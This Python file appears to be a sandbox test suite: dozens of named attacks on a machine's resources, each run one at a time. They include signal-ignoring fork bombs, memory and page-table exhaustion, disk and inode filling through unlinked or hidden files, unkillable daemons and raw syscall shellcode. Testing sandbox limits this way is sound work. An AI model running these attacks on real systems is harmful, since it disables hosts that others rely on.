"""Attacks on what a machine has: each is one run, and is named by its argument."""

import ctypes
import mmap
import resource
import signal
import socket
import subprocess
import threading
import time

MB = 1 << 20
libc = ctypes.CDLL(None)


def fork_bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def fork_bomb_of_strangers():
    """Each in a session of its own, deaf to everything that can be ignored."""
    for number in range(1, 32):
        if number not in (signal.SIGKILL, signal.SIGSTOP):
            signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass


def thread_bomb():
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()


def memory():
    kept = []
    while True:
        kept.append(b"x" * MB)


def memory_at_once():
    return bytearray(1 << 40)


def memory_by_mmap():
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 8 * MB, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))
        kept[-1].write(b"x" * 8 * MB)


def memory_shared():
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 8 * MB))
        kept[-1].write(b"x" * 8 * MB)


def memory_shared_of_the_dead():
    """Pages that children filled are in nobody's account once those are gone."""
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 8 * MB))
        child = os.fork()
        if child == 0:
            kept[-1].write(b"x" * 8 * MB)
            os._exit(0)
        os.waitpid(child, 0)


def memory_shared_and_forgotten():
    """So are pages that one said not to need."""
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 8 * MB))
        kept[-1].write(b"x" * 8 * MB)
        kept[-1].madvise(mmap.MADV_DONTNEED)


def memory_of_zeros():
    """The zero page costs nothing; the tables that lead to it do."""
    libc.mmap.restype = ctypes.c_void_p
    nowhere = ctypes.c_void_p(-1).value
    for _ in range(16):
        if os.fork() == 0:
            size = 1 << 46
            while (start := libc.mmap(None, ctypes.c_size_t(size), 1, 0x4022, -1, 0)) == nowhere:
                size //= 2
            # One look into each two megabytes makes a page of tables.
            for at in range(start, start + size, 2 * MB):
                ctypes.c_char.from_address(at).value
            time.sleep(60)
    time.sleep(60)


def memory_by_children():
    for _ in range(12):
        if os.fork() == 0:
            kept = b"x" * 24 * MB
            time.sleep(60)
            os._exit(len(kept) == 0)
    time.sleep(60)


def memory_that_grows_down():
    """Counts as a stack, and so in no limit of the kernel's."""
    libc.mmap.restype = ctypes.c_void_p
    start = libc.mmap(None, ctypes.c_size_t(1 << 30), 3, 0x4122, -1, 0)
    if start == ctypes.c_void_p(-1).value:
        raise OSError("no such memory")
    for at in range(start, start + (1 << 30), 4096):
        ctypes.c_char.from_address(at).value = b"x"


def memory_of_a_stack():
    """A stack may become as large as its limit, which a program sets for the next one."""
    hard = resource.getrlimit(resource.RLIMIT_STACK)[1]
    resource.setrlimit(resource.RLIMIT_STACK, (hard, hard))
    code = """if True:
        import ctypes, os
        stack = [line for line in open("/proc/self/maps") if "[stack]" in line][0]
        # Below what it stands on itself: its own calls, changed, end anywhere or turn for ever.
        end = int(stack.split("-")[0], 16)
        for at in range(end - 4096, end - (1 << 30), -4096):
            ctypes.c_char.from_address(at).value = b"x"
        print("ESCAPED: a stack of a gigabyte", flush=True)
    """
    if not boxed:
        raise OSError("nobody sees his stack here")
    sys.exit(subprocess.run([sys.executable, "-I", "-S", "-c", code, given["mark"]]).returncode)


def memory_behind_a_lock():
    """Each keeps busy what has to be asked to see how much it has."""
    libc.mmap.restype = ctypes.c_void_p

    def busy():
        size = 1 << 34
        start = libc.mmap(None, ctypes.c_size_t(size), 0, 0x4022, -1, 0)
        while True:
            for rights in (1, 0):
                libc.mprotect(ctypes.c_void_p(start), ctypes.c_size_t(size), rights)

    for _ in range(7):
        if os.fork() == 0:
            for _ in range(2):
                threading.Thread(target=busy, daemon=True).start()
            kept = b"x" * 32 * MB
            time.sleep(60)
            os._exit(len(kept) == 0)
    time.sleep(60)


def memory_of_locks():
    """Every second byte of many files: the kernel keeps each lock by itself."""
    import fcntl
    import tempfile

    for _ in range(4):
        if os.fork() == 0:
            files = [tempfile.NamedTemporaryFile() for _ in range(240)]
            for at in range(1_000_000, 0, -2):
                for file in files:
                    fcntl.lockf(file, fcntl.LOCK_EX, 1, at)
            time.sleep(60)
            os._exit(0)
    time.sleep(60)


def memory_of_borrowed_pages():
    """A pipe that holds one byte of a file holds all that was read with it."""
    kept = []
    with open("large", "w+b") as file:
        file.write(b"x" * 8 * MB)
        file.flush()
        for _ in range(8):
            kept.append(os.pipe())
            for at in range(0, 8 * MB, 512 << 10):
                os.sendfile(kept[-1][1], file.fileno(), at, 1)
    print("ESCAPED borrowed pages", len(kept))


def memory_of_mappings():
    """Every second page has other rights: the kernel keeps each by itself."""
    libc.mmap.restype = ctypes.c_void_p
    for _ in range(20):
        if os.fork() == 0:
            start = libc.mmap(None, ctypes.c_size_t(60_000 << 12), 0, 0x4022, -1, 0)
            for page in range(0, 60_000, 2):
                at = ctypes.c_void_p(start + (page << 12))
                libc.mprotect(at, ctypes.c_size_t(4096), 1)
            time.sleep(60)
            os._exit(0)
    time.sleep(60)


def memory_of_epolls():
    import select

    for _ in range(20):
        if os.fork() == 0:
            kept = [select.epoll() for _ in range(200)]
            time.sleep(60)
            os._exit(len(kept) == 0)
    time.sleep(60)


def memory_by_programs():
    code = "import sys, time; kept = b'x' * (24 << 20); time.sleep(60)"
    for _ in range(12):
        subprocess.Popen([sys.executable, "-I", "-S", "-c", code, given["mark"]])
    time.sleep(60)


def memory_of_pipes():
    """Many processes with many full pipes; the kernel keeps what is in them."""
    _many(lambda: [os.pipe() for _ in range(110)], lambda pair: pair[1])


def memory_of_sockets():
    _many(lambda: [socket.socketpair() for _ in range(100)], lambda pair: pair[0].fileno())


def memory_of_large_sockets():
    one, _ = socket.socketpair()
    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 * MB)
    print("ESCAPED large socket", one.getsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF))


def _many(make, end):
    chunk = b"x" * 65536
    for _ in range(20):
        if os.fork() == 0:
            kept = make()
            for pair in kept:
                os.set_blocking(end(pair), False)
                try:
                    while True:
                        os.write(end(pair), chunk)
                except BlockingIOError:
                    pass
            time.sleep(60)
            os._exit(len(kept) == 0)
    time.sleep(60)


def memory_shared_by_a_device():
    zero = os.open("/dev/zero", os.O_RDWR)
    mmap.mmap(zero, MB)
    print("ESCAPED shared memory by /dev/zero")


def processor():
    while True:
        pass


def processor_of_the_dead():
    """Children that nobody waits for are in no account."""
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                for _ in range(100_000):
                    pass
                os._exit(0)
        except OSError:
            pass  # too many at once: they take longer on a busy machine
        time.sleep(0.001)


def processor_without_signals():
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
    while True:
        pass


def disk():
    with open("large", "wb") as file:
        while True:
            file.write(b"x" * MB)
            file.flush()


def disk_in_pieces():
    for number in range(10_000):
        with open(f"piece-{number}", "wb") as file:
            file.write(b"x" * MB)
    time.sleep(60)


def disk_without_names():
    kept = []
    for number in range(200):
        kept.append(open(f"gone-{number}", "wb"))
        os.unlink(f"gone-{number}")
        kept[-1].write(b"x" * MB)
        kept[-1].flush()
    time.sleep(60)


def disk_only_mapped():
    """A file that has no name and is not open, but is there."""
    libc.mmap.restype = ctypes.c_void_p
    for number in range(400):
        with open(f"mapped-{number}", "w+b") as file:
            file.write(b"x" * MB)
            file.flush()
            libc.mmap(None, ctypes.c_size_t(4096), 1, 1, file.fileno(), ctypes.c_long(0))
            os.unlink(f"mapped-{number}")
    time.sleep(60)


def disk_on_its_way():
    """A file that is only in a message that nobody reads."""
    import array

    kept = []
    for number in range(400):
        kept.append(socket.socketpair())
        with open(f"sent-{number}", "w+b") as file:
            rights = array.array("i", [file.fileno()])
            kept[-1][0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
            os.unlink(f"sent-{number}")
            file.write(b"x" * MB)
    time.sleep(60)


def disk_by_links():
    """Names without files; a file takes nothing more for a second one, but its folder does."""
    open("one", "w").close()
    for number in range(1_000_000):
        os.link("one", f"{number}-" + "l" * 200)


def disk_allocated_behind_the_end():
    with open("behind", "wb") as file:
        done = libc.fallocate(file.fileno(), 1, ctypes.c_long(0), ctypes.c_long(1 << 31))
        blocks = os.fstat(file.fileno()).st_blocks
    if done == 0 or blocks:
        print("ESCAPED blocks that nobody wrote", blocks)
    raise OSError("not allocated")


def disk_allocated_in_pieces():
    for number in range(1000):
        with open(f"piece-{number}", "wb") as file:
            os.posix_fallocate(file.fileno(), 0, 8 * MB)
    time.sleep(60)


def disk_far_below():
    for _ in range(60):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    disk_in_pieces()


def disk_unseen():
    """A folder that nobody can list can still be written to."""
    os.mkdir("unseen", 0o300)
    os.chdir("unseen")
    disk_in_pieces()


def temporary_files():
    import tempfile

    kept = []
    while True:
        kept.append(tempfile.TemporaryFile())
        kept[-1].write(b"x" * 8 * MB)
        kept[-1].flush()


def shared_files():
    number = 0
    while True:
        number += 1
        with open(f"/dev/shm/{number}", "wb") as file:
            file.write(b"x" * MB)


def inodes():
    for number in range(1_000_000):
        os.mkdir(f"f-{number}")
        if number % 20 == 0:
            time.sleep(0.002)  # whoever has to remove them again is grateful


def sparse():
    with open("sparse", "wb") as file:
        file.truncate(1 << 40)


def allocated():
    with open("allocated", "wb") as file:
        os.posix_fallocate(file.fileno(), 0, 1 << 34)


def open_files():
    kept = []
    while True:
        kept.append(open("/dev/null"))


def output():
    while True:
        os.write(1, b"flood" * 10_000)


def errors():
    while True:
        os.write(2, b"flood" * 10_000)


def output_of_children():
    for _ in range(8):
        if os.fork() == 0:
            output()
    time.sleep(60)


def daemon():
    """Gone with its run, however far it went."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            for number in range(3):
                os.close(number)
            time.sleep(600)
        os._exit(0)
    os.wait()


def daemon_that_holds_on():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(0.05)
                print("still here", flush=True)
        os._exit(0)
    os.wait()


def daemon_that_stays():
    if os.fork() == 0:
        os.setsid()
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", given["mark"]])
        time.sleep(600)
    time.sleep(600)


def deaf():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(600)", given["mark"]],
        start_new_session=True,
    )
    time.sleep(600)


def stopped():
    os.kill(os.getpid(), signal.SIGSTOP)
    time.sleep(600)


def stopped_child():
    if (child := os.fork()) == 0:
        os.setsid()
        os.kill(os.getpid(), signal.SIGSTOP)
        time.sleep(600)
    os.waitpid(child, os.WUNTRACED)


def forking_at_the_end():
    """Always one younger than whoever looks."""
    while True:
        if os.fork():
            os._exit(0)


def forking_for_ever():
    if os.fork() == 0:
        os.setsid()
        forking_at_the_end()
    time.sleep(600)


def exit_now():
    os._exit(3)


def end_of_thread():
    """The first thread ends, another goes on."""
    threading.Thread(target=time.sleep, args=(600,)).start()
    libc.syscall(60 if os.uname().machine == "x86_64" else 93, 0)


def crash():
    ctypes.string_at(0)


def killed_by_itself():
    os.kill(os.getpid(), signal.SIGKILL)


def asleep():
    time.sleep(600)


def asleep_in_c():
    libc.usleep(600_000_000)


def asleep_with_signals_blocked():
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
    libc.sleep(600)


def endless_pattern():
    import re

    re.match(r"(a+)+$", "a" * 64 + "b")


def old_way_of_calling():
    """`int 0x80`, with the numbers of another architecture: getpid there is 20."""
    code = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    print("ESCAPED int 0x80", ctypes.CFUNCTYPE(ctypes.c_int)(address)())


resource.setrlimit(resource.RLIMIT_STACK, (MB, resource.getrlimit(resource.RLIMIT_STACK)[1]))
print("begins", flush=True)
globals()[given["attack"]]()
